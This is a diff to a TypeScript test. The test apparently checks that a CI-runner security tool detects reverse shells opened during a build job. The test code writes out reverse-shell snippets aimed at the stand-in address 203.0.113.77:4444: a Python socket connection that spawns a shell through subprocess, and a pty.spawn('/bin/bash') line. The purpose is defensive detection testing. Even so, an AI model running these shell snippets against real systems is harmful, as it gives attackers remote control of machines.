@@ -10,14 +10,14 @@ import type { JobReport } from "../../src/machine/job-report.ts";
 import type { LabProcess } from "../lab/process.ts";
 import { requireTools } from "../lab/tools.ts";
 import { Busy } from "./busy.ts";
-import { Runner } from "./harness.ts";
+import { type JobResult, Runner } from "./harness.ts";
 
 const far = "203.0.113.77";
 const port = 4_444;
 const listener = `require("node:net").createServer((s) => s.on("error", () => {})).listen(${port}, "${far}", () => console.log("listening"))`;
 /** Runs a command in the background until two seconds after process `pid` has its input from there. */
 const shell = (command: string, pid: string, input: string) =>
-  `${command} &\nuntil readlink /proc/${pid}/fd/0 | grep -q ${input}; do sleep 0.1; done\nsleep 2\nkill $! || true`;
+  `${command} &\nuntil readlink /proc/${pid}/fd/0 | grep -q ${input}; do sleep 0.1; done\nsleep 2\nkill -KILL $! || true`;
 /** As a package manager does: a shell on pipes, under a program that has a connection. */
 const harmless = `import socket,subprocess
 s = socket.create_connection(("${far}", ${port}))
@@ -34,6 +34,7 @@ describe("a job that does more than build", () => {
   let runner: Runner;
   let attacker: LabProcess;
   let busy: Busy | null = null;
+  let job: JobResult;
   let report: JobReport;
   const told = (type: string) => report.detections.filter((each) => each.type === type);
   const steps = (type: string) => told(type).map(({ process }) => process?.step ?? null);
@@ -48,7 +49,7 @@ describe("a job that does more than build", () => {
     writeFileSync(join(folder, "main.mjs"), checkout);
     busy = new Busy(runner);
     const worker = `$(for p in /proc/[0-9]*; do case "$(readlink $p/exe)" in ${runner.home}/bin/Runner.Worker) echo $p;; esac; done)`;
-    const job = await runner.run([
+    job = await runner.run([
       runner.sallyport({ "egress-policy": "audit" }),
       busy.step,
       { id: "__actions_checkout", action: "actions/checkout", folder, main: "main.mjs" },
@@ -97,7 +98,7 @@ pty.spawn("/bin/bash")'`,
     assert.deepEqual(
       steps("reverse_shell"),
       ["direct", "terminal", "relay", "socat"],
-      JSON.stringify(report.detections, null, 1),
+      JSON.stringify([job.results, report.detections], null, 1),
     );
     for (const each of told("reverse_shell")) assert.match(each.message, new RegExp(`shell for ${far}:${port}`));
   });
